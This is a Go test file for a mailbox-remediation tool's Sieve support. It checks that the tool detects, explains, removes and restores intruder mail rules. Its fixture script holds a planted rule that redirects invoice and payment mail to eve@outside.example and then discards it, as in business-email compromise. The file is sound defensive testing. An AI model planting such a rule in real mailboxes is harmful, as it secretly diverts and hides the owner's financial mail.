package imap

import (
	"errors"
	"strings"
	"testing"
	"time"

	"tocsin/internal/remediate"
	"tocsin/internal/remediate/sieve"

	"github.com/emersion/go-sasl"
)

const script = `require ["fileinto", "copy", "include"];
# rule:[Newsletters]
if header :contains "list-id" "news" { fileinto "News"; }

# rule:[.]
if header :contains "subject" ["invoice", "payment"] {
	redirect "eve@outside.example";
	discard;
}
include :personal "more";
keep;
`

func TestFirstAid(t *testing.T) {
	r := start(t, 1, nil)
	c, err := sieve.Dial(t.Context(), r.Sieve, nil, false, 10*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	mechanism, message, _ := sasl.NewPlainClient("", owner, "bo's own").Start()
	if err := errors.Join(c.Authenticate(mechanism, message), c.Put("more", "redirect \"eve@outside.example\";\n"), c.Put("main", script), c.Put("old", "discard;\n")); err != nil {
		t.Fatal(err)
	}
	for name, change := range map[string]func(*Options){
		"plain":        func(o *Options) { o.SieveTLS = TLSNone },
		"STARTTLS":     func(o *Options) { o.CA = r.CA },
		"with authzid": func(o *Options) { o.SieveTLS, o.SignIn = TLSNone, SignAuthzid },
	} {
		o := options(r)
		o.Sieve, o.OwnDomains = r.Sieve, []string{"own.example"}
		change(&o)
		m := open(t, provider(t, o), owner).(remediate.FirstAid)
		if got, err := m.Rules(t.Context()); err != nil || name == "plain" && len(got) != 0 {
			t.Errorf("%s: no script is active: %+v, %v", name, got, err)
		}
	}
	r.Doveadm("sieve", "activate", "-u", owner, "main")

	o := options(r)
	o.Sieve, o.SieveTLS, o.OwnDomains = r.Sieve, TLSNone, []string{"own.example"}
	m := open(t, provider(t, o), owner).(remediate.FirstAid)
	rules, err := m.Rules(t.Context())
	if err != nil || len(rules) != 6 {
		t.Fatalf("%d rules: %+v, %v", len(rules), rules, err)
	}
	bad := rules[2]
	if bad.Script != "main" || bad.Why != "forwards to eve@outside.example; deletes mail about invoice, payment" || !strings.HasPrefix(bad.Text, "# rule:[.]\nif") {
		t.Errorf("the rule of the intruder: %+v", bad)
	}
	if last := rules[5]; last.Script != "more" || last.Why == "" {
		t.Errorf("the included rule: %+v", last)
	}
	var out remediate.ScriptChange
	keep := func(x remediate.ScriptChange) error { out = x; return nil }
	// What cannot be written down is not done.
	no := errors.New("the disk is full")
	if err := m.RemoveRule(t.Context(), bad, func(remediate.ScriptChange) error { return no }); !errors.Is(err, no) {
		t.Errorf("not written down: %v", err)
	}
	if err := m.RemoveRule(t.Context(), bad, keep); err != nil || strings.ReplaceAll(out.Before, "\r\n", "\n") != script {
		t.Fatalf("before: %+v, %v", out, err)
	}
	after, err := m.Script(t.Context(), "main")
	if err != nil || after != out.After || strings.Contains(after, "invoice") || !strings.Contains(after, "Newsletters") || len(sieve.Cut(after)) != 4 {
		t.Errorf("after: %q, %v", after, err)
	}
	first := out
	if err := m.RemoveRule(t.Context(), bad, keep); !errors.Is(err, remediate.ErrChanged) {
		t.Errorf("removed twice: %v", err)
	}
	// Another rule is taken out meanwhile; the first still finds its place, and then so does the other.
	now, err := m.Rules(t.Context())
	if err != nil || len(now) != 5 {
		t.Fatalf("%+v, %v", now, err)
	}
	if err := errors.Join(m.RemoveRule(t.Context(), now[1], keep), m.PutBack(t.Context(), first, func(remediate.ScriptChange) error { return nil }), m.PutBack(t.Context(), out, keep)); err != nil {
		t.Fatal(err)
	}
	if again, err := m.Rules(t.Context()); err != nil || len(again) != 6 || again[2] != bad || out.After != first.Before {
		t.Errorf("put back: %+v, %v", again, err)
	}
	included := rules[5]
	if err := m.RemoveRule(t.Context(), included, keep); err != nil || out.Script != "more" || strings.TrimSpace(out.After) != "" {
		t.Errorf("the included rule: %+v, %v", out, err)
	}
	if err := m.PutBack(t.Context(), out, keep); err != nil {
		t.Error(err)
	}
	if err := c.Put("main", "keep;\n"); err != nil {
		t.Fatal(err)
	}
	if err := m.PutBack(t.Context(), first, keep); !errors.Is(err, remediate.ErrChanged) {
		t.Errorf("put back into another script: %v", err)
	}
	if _, err := m.Script(t.Context(), "none"); !errors.Is(err, remediate.ErrGone) {
		t.Errorf("no script: %v", err)
	}
	if err := m.SignOut(t.Context()); !errors.Is(err, remediate.ErrCannot) || !strings.Contains(err.Error(), "doveadm kick") {
		t.Errorf("signing out: %v", err)
	}
	// What the server does not understand it does not take, and the script stays.
	nonsense := remediate.ScriptChange{Script: "main", Before: "keep;\nnonsense;", After: "keep;\n", At: 6}
	if err := m.PutBack(t.Context(), nonsense, keep); err == nil || errors.Is(err, remediate.ErrOverloaded) {
		t.Errorf("nonsense: %v", err)
	}
	o.Password = "wrong"
	a := &aided{&mailbox{p: provider(t, o), address: owner, login: owner}}
	if _, err := a.Rules(t.Context()); !errors.Is(err, remediate.ErrRefused) {
		t.Errorf("wrong password: %v", err)
	}
	o.Sieve = "127.0.0.1:1"
	a.p = provider(t, o)
	if _, err := a.Rules(t.Context()); !errors.Is(err, remediate.ErrOverloaded) {
		t.Errorf("nobody listens: %v", err)
	}
}
